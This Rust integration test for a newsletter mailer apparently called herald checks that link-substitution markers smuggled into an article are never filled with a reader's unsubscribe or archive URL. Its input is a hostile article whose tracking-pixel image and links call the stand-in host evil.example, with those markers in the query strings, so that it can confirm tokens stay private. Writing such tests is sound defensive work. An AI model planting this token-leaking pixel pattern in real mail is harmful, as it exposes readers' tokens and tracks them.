//! Each copy's own links go where the renderer put them, and nowhere else.
//! Outside text (an article's link, image URL, title, author and body from
//! a feed or the API) that carries any string herald has used to mark
//! those places stays text: it never receives a reader's unsubscribe URL,
//! which a tracking pixel would otherwise collect from every copy opened.

mod common;

use common::{spawn_app, Backend};
use std::time::Duration;

const READERS: [&str; 2] = ["ann@example.org", "bob@example.org"];

/// Strings herald wrote into bodies where per-copy and per-digest links
/// went, and lookalikes of the markers it writes now.
const MARKERS: [&str; 4] = [
    "%%HERALD_UNSUBSCRIBE_URL%%",
    "%%HERALD_ARCHIVE_URL%%",
    "herald-unsubscribe-00000000000000000000000000000000",
    "herald-archive-00000000000000000000000000000000",
];

/// Every attribute value and text run in `body` that names evil.example.
fn evil_references(body: &str) -> Vec<String> {
    body.split(['"', '\'', ' ', '\n', '\r', '<', '>'])
        .filter(|s| s.contains("evil.example"))
        .map(str::to_string)
        .collect()
}

async fn an_article_carrying_link_markers_never_receives_a_readers_unsubscribe_url(
    backend: Backend,
) {
    let app = spawn_app(backend).await;
    app.import_confirmed(&READERS).await;
    let all = MARKERS.join("-");
    let resp = app
        .api(reqwest::Method::POST, "/api/articles")
        .json(&serde_json::json!({
            "title": format!("Pixel {}", MARKERS[0]),
            "url": format!("https://evil.example/story?u={}&a={}&n={}", MARKERS[0], MARKERS[1], MARKERS[2]),
            "image_url": format!("https://evil.example/t.gif?t={}", MARKERS[0]),
            "author": MARKERS[0],
            "html": format!(
                "<p>Text {all} and more text for the excerpt.</p><p><img src=\"https://evil.example/p.gif?t={}\" alt=\"x {}\"> <a href=\"https://evil.example/l?t={}&q={}\">link</a></p>",
                MARKERS[0], MARKERS[1], MARKERS[0], MARKERS[3]
            ),
        }))
        .send()
        .await
        .expect("POST /api/articles");
    assert_eq!(resp.status(), 201, "{}", resp.text().await.unwrap());

    let id = app.send_digest_now().await;
    app.wait_digest_done(id, Duration::from_secs(30)).await;
    let mails = app.sink.wait_for(2, Duration::from_secs(10)).await;
    assert_eq!(mails.len(), 2);

    for reader in READERS {
        let mail = app.sink.messages_to(reader).pop().expect("a copy");
        let one_click = app.one_click_url(reader).await;
        let token = one_click.rsplit('/').next().unwrap().to_string();
        let page = app.url(&format!("/unsubscribe/{token}"));
        let archive = app.url(&format!("/archive/{id}"));

        // The article's own references are in the copy, carrying no link
        // of herald's.
        for body in [&mail.html, &mail.text] {
            let evil = evil_references(body);
            assert!(!evil.is_empty(), "the article's link is in the copy");
            for r in &evil {
                assert!(
                    !r.contains("/unsubscribe/") && !r.contains(&token) && !r.contains("/archive/"),
                    "{reader}: an article URL received a herald link: {r}"
                );
            }
        }
        // The reader's link is where the template puts it, and only there:
        // once in each body's footer.
        let escaped = page.replace('&', "&amp;");
        assert_eq!(mail.html.matches(&escaped).count(), 1, "{}", mail.html);
        assert_eq!(mail.text.matches(&page).count(), 1, "{}", mail.text);
        assert!(mail
            .header("List-Unsubscribe")
            .unwrap()
            .contains(&one_click));
        // "View this digest in your browser" points to the archive, once per body.
        assert_eq!(mail.text.matches(&archive).count(), 1, "{}", mail.text);
        // No other reader's token is in this copy.
        for other in READERS.iter().filter(|r| **r != reader) {
            let theirs = app.one_click_url(other).await;
            let theirs = theirs.rsplit('/').next().unwrap();
            assert!(!mail.raw.contains(theirs), "{reader}'s copy names {other}");
        }
    }
    app.shutdown().await;
}

both_backends!(an_article_carrying_link_markers_never_receives_a_readers_unsubscribe_url);
